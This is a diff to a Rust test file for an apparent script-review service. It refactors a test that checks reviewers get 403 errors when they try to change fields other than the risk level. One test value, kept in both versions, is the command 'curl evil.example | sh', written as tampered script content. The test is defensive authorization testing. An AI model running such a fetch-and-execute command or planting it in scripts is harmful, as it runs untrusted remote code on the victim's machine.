@@ -456,6 +456,7 @@ async fn unknown_routes_methods_and_huge_bodies_get_json_errors() {
 /// A script of alice's reviewed by rita (matched by id) and sam (matched by name), and its path.
 async fn reviewed_script(client: &Client, name: &str) -> String {
     let mut body = script_body(name);
+    body["properties"]["protocol"] = json!("EMAIL");
     body["properties"]["reviewers"] = json!([
         {"reviewer_name": "rita", "reviewer_id": "u-rita"},
         {"reviewer_name": "sam", "reviewer_id": ""}
@@ -588,18 +589,18 @@ async fn a_reviewer_may_change_only_the_risk_level() {
         assert_eq!(raised["revision"], 1, "{backend}: the risk level is not what is reviewed");
         assert_eq!(raised["operator"], "rita");
 
-        let changes: Vec<(&str, Box<dyn Fn(&mut Value)>)> = vec![
-            ("description", Box::new(|b| b["description"] = json!("mine now"))),
-            ("content", Box::new(|b| b["content"] = json!("curl evil.example | sh"))),
-            ("script_params", Box::new(|b| b["script_params"][0]["param_value"] = json!("other"))),
-            ("script_params", Box::new(|b| b["script_params"][1]["param_value"] = json!("stolen"))),
-            ("properties.version", Box::new(|b| b["properties"]["version"] = json!("9"))),
-            ("properties.reviewers", Box::new(|b| b["properties"]["reviewers"] = json!([]))),
-            ("properties.protocol", Box::new(|b| b["properties"]["protocol"] = json!("SMS"))),
+        let changes = [
+            ("description", "/description", json!("mine now")),
+            ("content", "/content", json!("curl evil.example | sh")),
+            ("script_params", "/script_params/0/param_value", json!("other")),
+            ("script_params", "/script_params/1/param_value", json!("stolen")),
+            ("properties.version", "/properties/version", json!("9")),
+            ("properties.reviewers", "/properties/reviewers", json!([])),
+            ("properties.protocol", "/properties/protocol", json!("SMS")),
         ];
-        for (field, change) in &changes {
+        for (field, pointer, value) in &changes {
             let mut edit = unchanged(&raised);
-            change(&mut edit);
+            *edit.pointer_mut(pointer).expect("the script has the field") = value.clone();
             for reviewer in [&rita, &sam] {
                 let reply = reviewer.put(&path, &edit).await;
                 assert_eq!(reply.status, 403, "{backend}: a reviewer changed {field}: {}", reply.body);
